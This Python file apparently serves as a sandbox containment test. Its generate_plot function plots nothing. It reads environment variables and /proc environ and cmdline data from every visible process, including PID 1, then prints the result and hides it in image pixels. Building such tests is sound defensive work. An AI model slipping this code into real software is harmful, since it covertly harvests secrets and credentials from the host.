# expect: contained
# native: contained
# Gathers every environment it can see (own, parent, PID 1, all of /proc) into the image's pixels.
import os

from PIL import Image


def generate_plot(data):
    blob = repr(dict(os.environ)).encode()
    for entry in os.listdir("/proc"):
        if entry.isdigit() or entry == "self":
            for name in ("environ", "cmdline"):
                try:
                    blob += open(f"/proc/{entry}/{name}", "rb").read()
                except OSError:
                    pass
    for pid in (os.getppid(), 1):
        try:
            blob += open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            pass
    print(blob.decode("latin-1"))
    return Image.frombytes("L", (len(blob), 1), blob)
